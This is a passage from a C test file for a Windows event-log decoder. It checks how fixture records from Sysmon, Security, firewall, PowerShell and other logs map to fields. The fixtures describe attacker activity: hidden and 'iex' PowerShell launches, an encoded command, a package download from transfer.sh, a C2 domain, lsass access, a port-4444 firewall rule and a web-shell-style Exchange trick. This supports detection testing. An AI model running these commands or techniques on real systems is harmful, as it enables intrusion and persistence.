      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/EXE and DLL", "Microsoft-Windows-AppLocker", 8003,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/EXE and DLL", "Microsoft-Windows-AppLocker", 8004,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/MSI and Script", "Microsoft-Windows-AppLocker", 8005,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/MSI and Script", "Microsoft-Windows-AppLocker", 8006,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/MSI and Script", "Microsoft-Windows-AppLocker", 8007,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/Packaged app-Execution", "Microsoft-Windows-AppLocker", 8020,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/Packaged app-Execution", "Microsoft-Windows-AppLocker", 8021,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/Packaged app-Execution", "Microsoft-Windows-AppLocker", 8022,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/Packaged app-Deployment", "Microsoft-Windows-AppLocker", 8023,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/Packaged app-Deployment", "Microsoft-Windows-AppLocker", 8024,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/Packaged app-Deployment", "Microsoft-Windows-AppLocker", 8025,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/EXE and DLL", "Microsoft-Windows-AppLocker", 8028,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppLocker/EXE and DLL", "Microsoft-Windows-AppLocker", 8029,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
      {"FilePath", S_("%OSDRIVE%\\\\USERS\\\\PUBLIC\\\\X.EXE")}, {"FullFilePath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
      {"FileHash", S_("AB12")}, {"Fqbn", S_("-")}}},
    {"Microsoft-Windows-AppXDeploymentServer/Operational", "Microsoft-Windows-AppXDeployment-Server", 400,
     {{"PackageFullName", S_("Evil_1.0.0.0_x64__abc")}, {"CallingProcess", S_("C:\\\\Windows\\\\System32\\\\AppInstaller.exe")}}},
    {"Microsoft-Windows-AppXDeploymentServer/Operational", "Microsoft-Windows-AppXDeployment-Server", 854,
     {{"Path", S_("https://transfer.sh/x/evil.msix")}}},
    {"Microsoft-Windows-AppxPackaging/Operational", "Microsoft-Windows-AppxPackagingOM", 157,
     {{"subjectName", S_("CN=Foresee Consulting Inc.")}}},
    {"Microsoft-Windows-DNS-Client/Operational", "Microsoft-Windows-DNS-Client", 3006,
     {{"QueryName", S_("aaa.stage.123456.example.net")}, {"QueryType", S_("1")}}},
    {"Microsoft-Windows-DNS-Client/Operational", "Microsoft-Windows-DNS-Client", 3008,
     {{"QueryName", S_("aaa.stage.123456.example.net")}, {"QueryType", S_("1")}, {"QueryStatus", S_("0")},
      {"QueryResults", S_("::ffff:203.0.113.5;")}}},
    {"Microsoft-Windows-DNS-Client/Operational", "Microsoft-Windows-DNS-Client", 3020,
     {{"QueryName", S_("x.example.net")}, {"QueryType", S_("28")}, {"QueryStatus", S_("9003")}}},
    {"DNS Server", "Microsoft-Windows-DNS-Server-Service", 6004, {{"Data", S_("198.51.100.9\\ncorp.example.com")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2004, {{"RuleId", S_("{r-1}")}, {"RuleName", S_("allow 4444")}, {"ApplicationPath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
           {"ServiceName", S_("")}, {"Direction", S_("1")}, {"Protocol", S_("6")}, {"LocalPorts", S_("4444")},
           {"RemotePorts", S_("*")}, {"RemoteAddresses", S_("*")}, {"Action", S_("3")}, {"Active", S_("1")},
           {"ModifyingUser", S_("S-1-5-18")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2005, {{"RuleId", S_("{r-1}")}, {"RuleName", S_("allow 4444")}, {"ApplicationPath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
           {"ServiceName", S_("")}, {"Direction", S_("1")}, {"Protocol", S_("6")}, {"LocalPorts", S_("4444")},
           {"RemotePorts", S_("*")}, {"RemoteAddresses", S_("*")}, {"Action", S_("3")}, {"Active", S_("1")},
           {"ModifyingUser", S_("S-1-5-18")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2006, {{"RuleId", S_("{r-1}")}, {"RuleName", S_("allow 4444")},
           {"ModifyingUser", S_("S-1-5-18")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2032, {{"ModifyingUser", S_("S-1-5-21-1-500")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\netsh.exe")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2033, {{"ModifyingUser", S_("S-1-5-21-1-500")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\netsh.exe")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2071, {{"RuleId", S_("{r-1}")}, {"RuleName", S_("allow 4444")}, {"ApplicationPath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
           {"ServiceName", S_("")}, {"Direction", S_("1")}, {"Protocol", S_("6")}, {"LocalPorts", S_("4444")},
           {"RemotePorts", S_("*")}, {"RemoteAddresses", S_("*")}, {"Action", S_("3")}, {"Active", S_("1")},
           {"ModifyingUser", S_("S-1-5-18")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2072, {{"RuleId", S_("{r-1}")}, {"RuleName", S_("allow 4444")}, {"ApplicationPath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
           {"ServiceName", S_("")}, {"Direction", S_("1")}, {"Protocol", S_("6")}, {"LocalPorts", S_("4444")},
           {"RemotePorts", S_("*")}, {"RemoteAddresses", S_("*")}, {"Action", S_("3")}, {"Active", S_("1")},
           {"ModifyingUser", S_("S-1-5-18")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2073, {{"RuleId", S_("{r-1}")}, {"RuleName", S_("allow 4444")},
           {"ModifyingUser", S_("S-1-5-18")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe")}}},
    {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-Windows Firewall With Advanced Security",
     2097, {{"RuleId", S_("{r-1}")}, {"RuleName", S_("allow 4444")}, {"ApplicationPath", S_("C:\\\\Users\\\\Public\\\\x.exe")},
           {"ServiceName", S_("")}, {"Direction", S_("1")}, {"Protocol", S_("6")}, {"LocalPorts", S_("4444")},
           {"RemotePorts", S_("*")}, {"RemoteAddresses", S_("*")}, {"Action", S_("3")}, {"Active", S_("1")},
           {"ModifyingUser", S_("S-1-5-18")}, {"ModifyingApplication", S_("C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe")}}},
    {"MSExchange Management", "MSExchange CmdletLogs", 1,
     {{"Data", S_("New-ExchangeCertificate\\n -GenerateRequest -BinaryEncoded -RequestFile \\\\\\\\localhost\\\\C$\\\\inetpub\\\\x.aspx")}}},
    {"Microsoft-Windows-NTLM/Operational", "Microsoft-Windows-NTLM", 8001,
     {{"TargetName", S_("TERMSRV/host02")}, {"ProcessId", S_("1200")}, {"ProcessName", S_("C:\\\\Windows\\\\System32\\\\mstsc.exe")},
      {"ClientUserName", S_("carol")}, {"ClientDomainName", S_("CORP")}, {"MechanismOID", S_("1.3.6.1.4.1.311.2.2.10")}}},
    {"Microsoft-Windows-NTLM/Operational", "Microsoft-Windows-NTLM", 8002,
     {{"CallerPID", S_("4")}, {"ProcessName", S_("System")}, {"ClientUserName", S_("eve")}, {"ClientDomainName", S_("WS9")}}},
    {"Microsoft-Windows-NTLM/Operational", "Microsoft-Windows-NTLM", 8004,
     {{"SChannelName", S_("DC01")}, {"UserName", S_("eve")}, {"DomainName", S_("CORP")}, {"WorkstationName", S_("WS9")}}},
    {"Microsoft-Windows-SmbClient/Security", "Microsoft-Windows-SMBClient", 31010,
     {{"ShareName", S_("\\\\\\\\fs01\\\\ADMIN$")}, {"ServerName", S_("fs01")}, {"Reason", S_("2")}, {"Status", S_("0xc0000022")}}},
    {"Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 106,
     {{"TaskName", S_("\\\\upd")}, {"UserContext", S_("CORP\\\\carol")}}},
    {"Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 129,
     {{"TaskName", S_("\\\\upd")}, {"Path", S_("C:\\\\Users\\\\Public\\\\upd.exe")}, {"ProcessID", S_("6200")}}},
    {"Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 140,
     {{"TaskName", S_("\\\\upd")}, {"UserName", S_("CORP\\\\carol")}}},
    {"Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 141,
     {{"TaskName", S_("\\\\upd")}, {"UserName", S_("CORP\\\\carol")}}},
    {"Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 200,
     {{"TaskName", S_("\\\\upd")}, {"ActionName", S_("C:\\\\Users\\\\Public\\\\upd.exe")}, {"TaskInstanceId", S_("{t-1}")}}},
    {"Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 201,
     {{"TaskName", S_("\\\\upd")}, {"ActionName", S_("C:\\\\Users\\\\Public\\\\upd.exe")}, {"TaskInstanceId", S_("{t-1}")},
      {"ResultCode", S_("0")}}},
    {"Microsoft-Windows-Security-Mitigations/KernelMode", "Microsoft-Windows-Security-Mitigations", 11,
     {{"ProcessPath", S_("C:\\\\ProgramData\\\\Microsoft\\\\Windows Defender\\\\Platform\\\\MpCmdRun.exe")},
      {"ProcessId", S_("3100")}, {"ProcessCommandLine", S_("MpCmdRun.exe -SignatureUpdate")},
      {"ImageName", S_("C:\\\\x\\\\mpclient.dll")}}},
    {"Microsoft-Windows-Security-Mitigations/UserMode", "Microsoft-Windows-Security-Mitigations", 12,
     {{"ProcessPath", S_("C:\\\\ProgramData\\\\Microsoft\\\\Windows Defender\\\\Platform\\\\NisSrv.exe")},
      {"ProcessId", S_("3100")}, {"ImageName", S_("C:\\\\x\\\\evil.dll")}}},
    {"Microsoft-IIS-Configuration/Operational", "Microsoft-IIS-Configuration", 29,
     {{"Configuration", S_("/system.applicationHost/sites/siteDefaults/logFile/@logTargetW3C")},
      {"EffectiveLocation", S_("MACHINE/WEBROOT/APPHOST")}, {"OldValue", S_("File,ETW")}, {"NewValue", S_("File")}}},
    {"Windows PowerShell", "PowerShell", 400,
     {{"Data", S_("Available\\nNone\\n\\tNewEngineState=Available\\r\\n\\tPreviousEngineState=None\\r\\n\\r\\n\\tSequenceNumber=13"
                  "\\r\\n\\r\\n\\tHostName=ConsoleHost\\r\\n\\tHostVersion=5.1.19041.1\\r\\n\\tHostId=h-1\\r\\n"
                  "\\tHostApplication=C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -nop -w hidden"
                  "\\r\\n\\tEngineVersion=5.1.19041.1\\r\\n\\tRunspaceId=r-1\\r\\n\\tPipelineId=\\r\\n\\tCommandName=\\r\\n"
                  "\\tCommandType=\\r\\n\\tScriptName=\\r\\n\\tCommandPath=\\r\\n\\tCommandLine=")}}},
    {"Windows PowerShell", "PowerShell", 403,
     {{"Data", S_("Stopped\\nAvailable\\n\\tNewEngineState=Stopped\\r\\n\\tPreviousEngineState=Available\\r\\n"
                  "\\tHostName=ConsoleHost\\r\\n\\tHostApplication=powershell.exe\\r\\n\\tEngineVersion=5.1.19041.1")}}},
    {"Windows PowerShell", "PowerShell", 600,
     {{"Data", S_("Registry\\nStarted\\n\\tProviderName=Registry\\r\\n\\tNewProviderState=Started\\r\\n\\r\\n"
                  "\\tSequenceNumber=1\\r\\n\\tHostName=ConsoleHost\\r\\n\\tHostApplication=powershell.exe -c iex $x")}}},
    {"Windows PowerShell", "PowerShell", 800,
     {{"Data", S_("\\tDetailSequence=1\\r\\n\\tUserId=CORP\\\\carol\\r\\n\\tHostName=ConsoleHost\\r\\n"
                  "\\tHostApplication=powershell.exe\\r\\n\\tScriptName=C:\\\\x.ps1\\r\\n"
                  "\\tCommandLine=Get-ItemProperty -Path 'HKLM:\\\\SYSTEM\\\\CurrentControlSet\\\\Control\\\\Terminal Server'\\r\\n"
                  "CommandInvocation(Get-ItemProperty)")}}},
};
#define NRECORDS (sizeof records / sizeof records[0])

static unsigned record_source(const record *r) { return pal_win_source_of_channel(r->channel, strlen(r->channel)); }

/* Every record of the table has a test record, and each decodes into the
   same event (every field equal) from the three layouts. */
static void test_three_layouts(void)
{
    for (size_t i = 0; i < pal_win_nevents; i++) {
        bool have = false;
        for (size_t j = 0; j < NRECORDS; j++)
            have = have || (record_source(&records[j]) == pal_win_events[i].source &&
                            (records[j].id == pal_win_events[i].id || !pal_win_events[i].id));
        if (!have) fprintf(stderr, "no test record for EventID %u\n", pal_win_events[i].id);
        CHECK(have);
    }
    static char line[3][8192];
    static pal_arena arenas[3];
    static pal_event evs[3];
    for (int l = 0; l < 3; l++) pal_arena_init(&arenas[l], 0);
    const pal_schema *s = pal_schema_get(PS_EVENT);
    for (size_t j = 0; j < NRECORDS; j++) {
        const record *r = &records[j];
        for (int l = 0; l < 3; l++) {
            render(r, l, line[l], sizeof line[l]);
            pal_arena_reset(&arenas[l]);
            char err[512];
            int rc = pal_event_decode(line[l], strlen(line[l]), PAL_INPUT_AUTO, NULL, &arenas[l], &evs[l], err,
                                      sizeof err);
            if (rc != 0 || err[0]) fprintf(stderr, "EventID %d layout %d: rc %d, %s\n  %s\n", r->id, l, rc, err, line[l]);
            CHECK_INT(rc, 0);
            CHECK_STR(err, "");
            const pal_win_event *row = pal_win_event_find_for(record_source(r), r->provider, strlen(r->provider), r->id);
            CHECK(row != NULL);
            CHECK_INT(evs[l].kind, row ? row->kind : 0);
            CHECK(evs[l].windows);
        }
        for (unsigned f = 0; f < s->nfields; f++) {
            char a[1024], b[1024], c[1024];
            const char *ta = val_text(slot(&evs[0], (int)f), a, sizeof a);
            const char *tb = val_text(slot(&evs[1], (int)f), b, sizeof b);
            const char *tc = val_text(slot(&evs[2], (int)f), c, sizeof c);
            bool flat_has_no_place = r->id == 104 && !strcmp(s->fields[f].name, "winlog.event_data.Channel") &&
                                     !strcmp(tb, "(undef)");   /* see data_object */
            if ((strcmp(ta, tb) && !flat_has_no_place) || strcmp(ta, tc)) {
                fprintf(stderr, "EventID %d, %s: Winlogbeat %s, flat %s, evtx %s\n", r->id, s->fields[f].name, ta, tb,
                        tc);
                CHECK(0);
            }
        }
    }
    for (int l = 0; l < 3; l++) pal_arena_free(&arenas[l]);
}

static void decode_record(int id, int layout)
{
    static char line[8192];
    for (size_t j = 0; j < NRECORDS; j++)
        if (records[j].id == id) { render(&records[j], layout, line, sizeof line); break; }
    decode(line);
}

/* The test record of (channel, id) (EventIDs of different logs meet). */
static void decode_record_of(const char *channel, int id, int layout)
{
    static char line[8192];
    line[0] = 0;
    for (size_t j = 0; j < NRECORDS; j++)
        if (records[j].id == id && !strcmp(records[j].channel, channel)) {
            render(&records[j], layout, line, sizeof line);
            break;
        }
    CHECK(line[0] != 0);
    decode(line);
}

/* The values each record gives (read from the evtx_dump layout; the
   layouts agree, above). */
static void test_mapping(void)
{
    decode_record(1, 2);
    CHECK_STR(S("event.code"), "1");
    CHECK_STR(S("event.action"), "process-creation");
    CHECK_STR(S("event.module"), "sysmon");
    CHECK_STR(S("winlog.channel"), "Microsoft-Windows-Sysmon/Operational");
    CHECK_STR(S("event.provider"), "Microsoft-Windows-Sysmon");
    CHECK_STR(S("winlog.event_id"), "1");
    CHECK_STR(S("winlog.record_id"), "77");
    CHECK_STR(S("host.name"), "WINCTR-HOST01");
    CHECK_STR(S("timestamp"), "2024-03-12T10:05:01.250Z");
    CHECK_STR(S("process.name"), "certutil.exe");
    CHECK_STR(S("process.entity_id"), "{a-1}");
    CHECK_STR(S("process.pe.original_file_name"), "CertUtil.exe");
    CHECK_STR(S("process.pe.company"), "Microsoft Corporation");
    CHECK_STR(S("process.hash.md5"), "aa11");
    CHECK_STR(S("process.hash.sha256"), "bb22");
    CHECK_STR(S("process.pe.imphash"), "cc33");
    CHECK_STR(S("user.name"), "app");
    CHECK_STR(S("user.domain"), "CORP");
    CHECK_STR(S("winlog.logon.id"), "0x3e7");
    CHECK_STR(S("winlog.event_data.IntegrityLevel"), "High");
    CHECK_STR(S("winlog.event_data.ParentUser"), "NT AUTHORITY\\SYSTEM");
    CHECK_STR(S("process.parent.name"), "cmd.exe");
    CHECK_STR(S("event.type"), "[start]");

    decode_record(3, 2);
    CHECK_STR(S("network.direction"), "outbound");
    CHECK_STR(S("destination.domain"), "c2.example.net");
    CHECK_STR(S("destination.port"), "443");
    decode_record(5, 2);
    CHECK_STR(S("event.type"), "[end]");
    CHECK_STR(S("event.action"), "process-termination");

    decode_record(6, 2);
    CHECK_INT(EV.kind, PK_LIBRARY);
    CHECK_STR(S("event.category"), "[driver]");
    CHECK_STR(S("dll.name"), "evil.sys");
    CHECK_STR(S("dll.hash.sha1"), "dd44");
    CHECK_STR(S("dll.code_signature.signed"), "false");
    CHECK_STR(S("dll.code_signature.status"), "Unavailable");
    decode_record(7, 2);
    CHECK_STR(S("event.category"), "[library]");
    CHECK_STR(S("dll.path"), "C:\\Windows\\System32\\amsi.dll");
    CHECK_STR(S("dll.pe.original_file_name"), "AMSI.DLL");
    CHECK_STR(S("dll.code_signature.subject_name"), "Microsoft Windows");
    CHECK_STR(S("process.name"), "a.exe");

    decode_record(8, 2);
    CHECK_STR(S("process.executable"), "C:\\app\\a.exe");
    CHECK_STR(S("process.entity_id"), "{s-1}");
    CHECK_STR(S("winlog.event_data.TargetProcessId"), "632");
    CHECK_STR(S("winlog.event_data.StartAddress"), "0x7FF6A0001000");
    CHECK_STR(S("winlog.event_data.StartModule"), "(undef)");     /* "-" */
    CHECK_STR(S("user.name"), "app");
    CHECK_STR(S("winlog.event_data.SourceUser"), "CORP\\app");
    decode_record(10, 2);
    CHECK_STR(S("process.thread.id"), "7404");
    CHECK_STR(S("winlog.event_data.GrantedAccess"), "0x1010");
    CHECK_STR(S("winlog.event_data.TargetImage"), "C:\\Windows\\system32\\lsass.exe");
    CHECK_STR(S("event.type"), "[access]");

    decode_record(12, 2);
    CHECK_INT(EV.kind, PK_REGISTRY);
    CHECK_STR(S("event.action"), "creation");
    CHECK_STR(S("registry.hive"), "HKU");
    CHECK_STR(S("registry.key"), "S-1-5-21-1\\Software\\Classes\\ms-settings\\shell");
    CHECK_STR(S("registry.value"), "shell");
    CHECK_STR(S("winlog.event_data.EventType"), "CreateKey");
    decode_record(13, 2);
    CHECK_STR(S("event.action"), "modification");
    CHECK_STR(S("registry.data.strings"), "[2]");
    CHECK_STR(S("registry.data.type"), "REG_DWORD");
    CHECK_STR(S("winlog.event_data.Details"), "DWORD (0x00000002)");
    decode_record(14, 2);
    CHECK_STR(S("event.action"), "rename");
    CHECK_STR(S("winlog.event_data.NewName"), "HKLM\\SOFTWARE\\b");

    decode_record(15, 2);
    CHECK_STR(S("file.hash.sha256"), "ee55");
    CHECK_STR(S("file.pe.imphash"), "ab12");
    CHECK_STR(S("file.name"), "x.exe:Zone.Identifier");
    CHECK_STR(S("winlog.event_data.Contents"), "[ZoneTransfer]  ZoneId=3");
    decode_record(17, 2);
    CHECK_INT(EV.kind, PK_FILE);
    CHECK_STR(S("file.name"), "\\PSEXESVC");
    CHECK_STR(S("file.path"), "(undef)");
    CHECK_STR(S("event.action"), "pipe-creation");
    decode_record(20, 2);
    CHECK_STR(S("winlog.event_data.Destination"), "powershell -enc AAAA");
    CHECK_STR(S("process.executable"), "(undef)");   /* not the consumer's command */
    decode_record(19, 2);
    CHECK_STR(S("user.name"), "admin");
    CHECK_STR(S("winlog.event_data.EventNamespace"), "root\\cimv2");
    decode_record(22, 2);
    CHECK_INT(EV.kind, PK_DNS);
    CHECK_STR(S("dns.resolved_ip"), "[203.0.113.20]");
    CHECK_STR(S("dns.response_code"), "NOERROR");
    decode_record(23, 2);
    CHECK_STR(S("file.hash.md5"), "ff66");
    CHECK_STR(S("process.hash.md5"), "(undef)");   /* the deleted file's hash, not the process's */
    CHECK_STR(S("event.action"), "deletion");
    decode_record(25, 2);
    CHECK_STR(S("winlog.event_data.Type"), "Image is replaced");

    decode_record(4688, 2);
    CHECK_INT(EV.kind, PK_PROCESS);
    CHECK_STR(S("process.pid"), "6120");          /* 0x17e8 */
    CHECK_STR(S("process.parent.pid"), "4400");   /* 0x1130 */
    CHECK_STR(S("process.name"), "whoami.exe");
    CHECK_STR(S("process.parent.name"), "cmd.exe");
    CHECK_STR(S("user.name"), "HOST01$");
    CHECK_STR(S("user.domain"), "CORP");
    CHECK_STR(S("user.id"), "S-1-5-18");
    CHECK_STR(S("winlog.logon.id"), "0x3e7");
    CHECK_STR(S("winlog.event_data.TargetUserName"), "(undef)");   /* "-" */
    CHECK_STR(S("winlog.event_data.MandatoryLabel"), "S-1-16-16384");
    CHECK_STR(S("event.module"), "security");
    CHECK_STR(S("event.action"), "created-process");
    decode_record(4689, 2);
    CHECK_STR(S("event.type"), "[end]");
    CHECK_STR(S("process.pid"), "6120");
    decode_record(4624, 2);
    CHECK_INT(EV.kind, PK_AUTH);
    CHECK_STR(S("user.name"), "svc-app");
    CHECK_STR(S("user.id"), "S-1-5-21-1-1001");
    CHECK_STR(S("winlog.event_data.TargetOutboundUserName"), "svc-net");
    CHECK_STR(S("winlog.logon.id"), "0x8d2a1");
    CHECK_STR(S("winlog.event_data.LogonType"), "3");
    CHECK_STR(S("source.ip"), "172.24.96.1");
    CHECK_STR(S("source.port"), "51234");
    CHECK_STR(S("source.domain"), "WS7");
    CHECK_STR(S("process.pid"), "0");
    CHECK_STR(S("process.executable"), "(undef)");
    CHECK_STR(S("event.outcome"), "success");
    CHECK_STR(S("event.category"), "[authentication]");
    decode_record(4625, 2);
    CHECK_STR(S("event.outcome"), "failure");
    CHECK_STR(S("winlog.event_data.Status"), "0xc000006d");
    CHECK_STR(S("winlog.event_data.LogonType"), "10");
    decode_record(4648, 2);
    CHECK_STR(S("user.name"), "admin");
    CHECK_STR(S("winlog.logon.id"), "0x5e3");
    CHECK_STR(S("winlog.event_data.SubjectUserName"), "app");
    CHECK_STR(S("winlog.event_data.TargetServerName"), "dc01.corp.example.com");
    CHECK_STR(S("source.ip"), "::1");
    CHECK_STR(S("process.pid"), "468");
    decode_record(5156, 2);
    CHECK_INT(EV.kind, PK_NETWORK);
    CHECK_STR(S("network.direction"), "outbound");
    CHECK_STR(S("network.transport"), "tcp");
    CHECK_STR(S("destination.ip"), "10.0.0.9");
    CHECK_STR(S("destination.port"), "50123");
    CHECK_STR(S("process.pid"), "4");
    CHECK_STR(S("process.name"), "System");
    decode_record(7045, 2);
    CHECK_INT(EV.kind, PK_CONFIG);
    CHECK_STR(S("service.name"), "updsvc");
    CHECK_STR(S("service.type"), "user mode service");
    CHECK_STR(S("winlog.event_data.ImagePath"), "%COMSPEC% /c whoami");
